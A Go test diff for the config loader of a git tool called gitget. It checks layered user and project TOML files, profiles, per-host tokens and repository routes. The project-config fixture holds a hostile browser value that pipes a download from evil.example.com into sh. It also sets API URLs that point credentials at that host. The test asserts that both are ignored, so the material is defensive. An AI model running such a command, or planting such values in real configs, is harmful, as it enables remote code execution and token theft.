@@ -1,8 +1,10 @@
 package cfg
 
 import (
+	"errors"
 	"fmt"
 	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -80,10 +82,24 @@ func (c *gitconfigEmpty) Get(key string) string {
 	return ""
 }
 
+func (c *gitconfigEmpty) Values() map[string]string {
+	return nil
+}
+
 type gitconfigValid struct{}
 
 func (c *gitconfigValid) Get(key string) string {
-	return fromGitconfig
+	return c.Values()[key]
+}
+
+func (c *gitconfigValid) Values() map[string]string {
+	return map[string]string{
+		"gitget.host":             fromGitconfig,
+		"gitget.scheme":           fromGitconfig,
+		"gitget.skip-host":        "yes",
+		"gitget.last-commit":      "off",
+		"gitget.github.com.token": fromGitconfig,
+	}
 }
 
 func testConfigEmpty(t *testing.T) {
@@ -126,3 +142,188 @@ func testConfigInFlag(t *testing.T) {
 		t.Fatalf("failed to execute command: %v", err)
 	}
 }
+
+//nolint:paralleltest // These tests modify global state (viper, env vars) and cannot run in parallel
+func TestConfigFiles(t *testing.T) {
+	dir := t.TempDir()
+	user := writeConfigFile(t, dir, "user.toml", `
+root = "/home/user/repos"
+skip-host = true
+tag = ["work", "oncall"]
+profile = "personal"
+
+[profiles.personal]
+host = "codeberg.org"
+
+[profiles.work]
+root = "/work/src"
+
+[hosts."gitlab.example.com"]
+forge = "gitlab"
+token = "secret"
+`)
+	project := writeConfigFile(t, dir, "project.toml", `
+host = "gitlab.example.com"
+browser = "sh -c 'curl evil.example.com | sh'"
+
+[profiles.work]
+api-url = "https://evil.example.com"
+
+[hosts."gitlab.example.com"]
+token = "project-secret"
+
+[hosts."github.com"]
+api-url = "https://evil.example.com"
+`)
+
+	t.Cleanup(func() {
+		SetProfile("")
+		viper.Reset()
+	})
+
+	load(&gitconfigValid{}, user, "")
+	assert(t, KeyReposRoot, "/home/user/repos", SourceUser+" "+user)
+	assert(t, KeyDefaultHost, "codeberg.org", SourceUser+" "+user+" (profile personal)")
+	assert(t, KeyDefaultScheme, fromGitconfig, SourceGitconfig)
+
+	if !viper.GetBool(KeySkipHost) {
+		t.Errorf("expected skip-host to be true")
+	}
+
+	if viper.GetBool(KeyLastCommit) || !viper.IsSet(KeyLastCommit) {
+		t.Errorf("expected last-commit from gitconfig to be false")
+	}
+
+	if viper.IsSet("github.com.token") {
+		t.Errorf("expected per-host keys not to be loaded as config keys")
+	}
+
+	if got := viper.GetStringSlice(KeyTag); len(got) != 2 || got[1] != "oncall" {
+		t.Errorf("expected tags from config file; got %q", got)
+	}
+
+	viper.Reset()
+	SetProfile("work")
+	load(&gitconfigEmpty{}, user, project)
+	assert(t, KeyReposRoot, "/work/src", SourceUser+" "+user+" (profile work)")
+	assert(t, KeyDefaultHost, "gitlab.example.com", SourceProject+" "+project)
+
+	t.Setenv(envName(KeyReposRoot), fromEnv)
+
+	if value, source, _ := Lookup(KeyReposRoot); value != fromEnv || source != SourceEnv+" GITGET_ROOT" {
+		t.Errorf("expected root from env; got %q (%s)", value, source)
+	}
+
+	// A project config file comes with the repo, so it can't run commands nor redirect credentials.
+	if _, source, ok := Lookup(KeyBrowser); ok {
+		t.Errorf("expected browser from project config to be ignored; got it from %s", source)
+	}
+
+	if _, source, ok := Lookup(KeyAPIURL); ok {
+		t.Errorf("expected api-url from project config profile to be ignored; got it from %s", source)
+	}
+
+	hosts := WithHosts(&gitconfigValid{})
+	if got := hosts.Get("gitget.gitlab.example.com.token"); got != "secret" {
+		t.Errorf("expected token from user config; got %q", got)
+	}
+
+	if got := hosts.Get("gitget.github.com.api-url"); got != "" {
+		t.Errorf("expected api-url from project config to be ignored; got %q", got)
+	}
+
+	if got := hosts.Get("gitget.gitlab.example.com.forge"); got != "gitlab" {
+		t.Errorf("expected forge from user config; got %q", got)
+	}
+
+	if got := hosts.Get("gitget.github.com.token"); got != fromGitconfig {
+		t.Errorf("expected token from gitconfig; got %q", got)
+	}
+}
+
+//nolint:paralleltest // These tests modify global state (viper, env vars) and cannot run in parallel
+func TestInvalidConfigFile(t *testing.T) {
+	dir := t.TempDir()
+
+	if _, err := readConfigFile(writeConfigFile(t, dir, "invalid.toml", "root = "), SourceUser); !errors.Is(err, errInvalidConfigFile) {
+		t.Errorf("expected errInvalidConfigFile; got %v", err)
+	}
+
+	if _, err := readConfigFile(writeConfigFile(t, dir, "hosts.toml", "hosts = 1"), SourceUser); !errors.Is(err, errInvalidConfigFile) {
+		t.Errorf("expected errInvalidConfigFile; got %v", err)
+	}
+
+	if file, err := readConfigFile(filepath.Join(dir, "missing.toml"), SourceUser); file != nil || err != nil {
+		t.Errorf("expected missing file to be ignored; got %v", err)
+	}
+}
+
+func writeConfigFile(t *testing.T, dir string, name string, content string) string {
+	t.Helper()
+
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+
+	return path
+}
+
+// assert checks the value of a key in viper's registry and its source.
+func assert(t *testing.T, key string, want string, wantSource string) {
+	t.Helper()
+
+	if got := viper.GetString(key); got != want {
+		t.Errorf("expected %s %q; got %q", key, want, got)
+	}
+
+	if _, source, _ := Lookup(key); source != wantSource {
+		t.Errorf("expected %s source %q; got %q", key, wantSource, source)
+	}
+}
+
+//nolint:paralleltest // These tests modify global state (viper, env vars) and cannot run in parallel
+func TestRoutes(t *testing.T) {
+	user := writeConfigFile(t, t.TempDir(), "user.toml", `
+[hosts."gitlab.example.com"]
+root = "/from/file"
+
+[hosts."codeberg.org"]
+token = "secret"
+`)
+
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Cleanup(viper.Reset)
+
+	load(&gitconfigRoutes{}, user, "")
+
+	want := []Route{
+		{Pattern: "github.com/mycompany/*", Root: filepath.Join(home, "work")},
+		{Pattern: "gitlab.example.com", Root: "/from/file"},
+	}
+
+	got := Routes()
+	if fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("expected routes %v; got %v", want, got)
+	}
+
+	if roots := Roots(got, filepath.Join(home, "work")); len(roots) != 1 || roots[0] != "/from/file" {
+		t.Errorf("expected roots other than the default one; got %q", roots)
+	}
+}
+
+type gitconfigRoutes struct{}
+
+func (c *gitconfigRoutes) Get(key string) string {
+	return c.Values()[key]
+}
+
+func (c *gitconfigRoutes) Values() map[string]string {
+	return map[string]string{
+		"gitget.root":                        "/repositories",
+		"gitget.github.com/mycompany/*.root": "~/work",
+		"gitget.gitlab.example.com.root":     "/from/gitconfig",
+		"gitget.gitlab.example.com.token":    "secret",
+	}
+}